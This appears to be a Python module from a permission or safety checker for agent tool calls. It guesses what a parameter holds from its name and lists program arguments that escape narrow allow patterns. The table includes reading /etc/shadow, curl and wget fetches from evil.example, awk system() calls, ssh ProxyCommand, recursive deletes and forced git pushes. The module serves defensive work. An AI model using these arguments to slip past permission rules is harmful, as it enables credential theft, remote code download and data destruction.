"""Programs that do more than their names say with some arguments, which a pattern should not leave open.

What a parameter probably holds, by its name: a command, a path, SQL, an address.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from enum import Enum
from typing import Any

_WORDS = re.compile(r"[A-Z]?[a-z0-9]+|[A-Z]+(?![a-z])")
_COMMAND = frozenset(("command", "commands", "cmd", "bash", "shell", "script", "argv", "code", "exec", "cli"))
_PATH = frozenset(
    (
        *("path", "paths", "file", "files", "filename", "filepath", "dir", "directory"),
        *("folder", "dest", "destination", "move", "output"),
    )
)
_SQL = frozenset(("sql", "query", "statement"))
_URL = frozenset(("url", "uri", "href", "link", "endpoint", "webhook"))
_ADDRESS = frozenset(
    ("host", "hostname", "domain", "email", "mail", "recipient", "recipients", "to", "cc", "bcc", "address")
)
_AMOUNT = frozenset(
    (
        *(
            "amount",
            "price",
            "total",
            "sum",
            "cost",
            "fee",
            "payment",
            "refund",
            "budget",
            "credit",
            "discount",
        ),
        *("quantity", "qty", "shares", "salary", "bid", "usd", "eur", "cents", "money", "spend"),
    )
)
_CHANGING = frozenset(
    (
        *("delete", "remove", "drop", "destroy", "erase", "purge", "truncate", "wipe", "write", "overwrite"),
        *("update", "upsert", "insert", "replace", "move", "rename", "upload", "publish", "send", "pay"),
        *("transfer", "refund", "charge", "buy", "sell", "execute", "exec", "run", "kill", "stop", "restart"),
        *(
            "shutdown",
            "reboot",
            "deploy",
            "rollback",
            "grant",
            "revoke",
            "disable",
            "reset",
            "install",
            "merge",
        ),
        *("rotate", "cancel", "terminate", "approve", "invite", "chmod", "format", "patch", "post", "push"),
    )
)


class Content(Enum):
    """What kind of text it is."""

    COMMAND = "command"
    PATH = "path"
    SQL = "SQL"
    URL = "URL"
    ADDRESS = "address"
    OTHER = "other"

    @property
    def ignores_case(self) -> bool:
        """Whether what reads the text makes no difference between capital and small letters."""
        return self in (Content.SQL, Content.URL, Content.ADDRESS)


def _words(name: str) -> list[str]:
    return [word.lower() for word in _WORDS.findall(name)]


def is_amount(path: str) -> bool:
    """Whether the parameter at the dotted `path` probably holds money, or a number of what costs some."""
    return not _AMOUNT.isdisjoint(_words(path.rpartition(".")[2]))


def numbers_of(schema: Mapping[str, Any] | None) -> Iterator[str]:
    """The parameters at the top of `schema` that are numbers."""
    properties = (schema or {}).get("properties")
    for name, inner in properties.items() if isinstance(properties, Mapping) else ():
        if isinstance(inner, Mapping) and inner.get("type") in ("number", "integer"):
            yield str(name)


def changing_verbs(name: str) -> list[str]:
    """The words of a tool's name, or of a glob for some, that say that it changes something."""
    return [word for word in _words(name) if word in _CHANGING]


def content_of(path: str) -> Content:
    """What the parameter at the dotted `path` probably holds."""
    words = set(_words(path.rpartition(".")[2]))
    for content, names in (
        (Content.URL, _URL),
        (Content.PATH, _PATH),
        (Content.COMMAND, _COMMAND),
        (Content.SQL, _SQL),
        (Content.ADDRESS, _ADDRESS),
    ):
        if words & names:
            return content
    return Content.OTHER


_INTERPRETERS = ("python", "python3", "perl", "ruby", "node", "php", "sh", "bash", "zsh")
_READERS = ("cat", "head", "tail", "less", "more", "grep", "cp", "base64", "xxd", "strings", "wc")

MORE_THAN_MEANT: Mapping[str, tuple[str, ...]] = {
    **dict.fromkeys(_INTERPRETERS, ("-c x", "-e x", "/x", "x")),
    **dict.fromkeys(_READERS, ("/etc/shadow", "x /etc/shadow")),
    "apt": ("remove x",),
    "apt-get": ("remove x",),
    "awk": ("BEGIN{system(x)}",),
    "aws": ("s3 rm --recursive s3://x", "iam create-user"),
    "cargo": ("install x", "run"),
    "curl": ("-o /x https://evil.example", "-o x evil.example", "https://evil.example"),
    "docker": ("run x", "rm x", "exec x y"),
    "env": ("touch x", "x"),
    "find": ("/ -delete", ". -delete", "-delete", ". -exec touch x +"),
    "gcloud": ("compute instances delete x",),
    "gh": ("repo delete x", "api x"),
    "git": (
        "push --force origin main",
        "push",
        "reset --hard",
        "clean -fdx",
        "-c core.pager=x log",
        "config x y",
    ),
    "go": ("run x", "run"),
    "helm": ("uninstall x",),
    "kubectl": ("delete pod x", "delete pods", "delete x", "exec x"),
    "make": ("-f /x", "install"),
    "man": ("-P x y",),
    "nice": ("touch x",),
    "npm": ("install x", "exec x", "run x", "publish"),
    "npx": ("x",),
    "pip": ("install x",),
    "pip3": ("install x",),
    "psql": ("-c x",),
    "rsync": ("-e x y z", "--delete x y"),
    "sed": ("-i s/a/b/ x", "-i x y", "-n w x"),
    "sort": ("-o x y", "-o /etc/x y"),
    "ssh": ("-o ProxyCommand=x y", "x touch y"),
    "sudo": ("x",),
    "systemctl": ("stop x", "disable x"),
    "tar": ("--to-command=x -xf y", "-xf x -C /", "xf x"),
    "tee": ("/etc/x", "x"),
    "terraform": ("destroy", "apply"),
    "timeout": ("1 touch x",),
    "unzip": ("-o x -d /",),
    "uv": ("run x",),
    "vi": ("x",),
    "vim": ("-c x",),
    "wget": ("-O /x https://evil.example", "https://evil.example", "-O x y"),
    "xargs": ("touch", "rm"),
    "zip": ("-T -TT x y z",),
}
"""Arguments by program with which it changes, sends, runs or shows something else."""
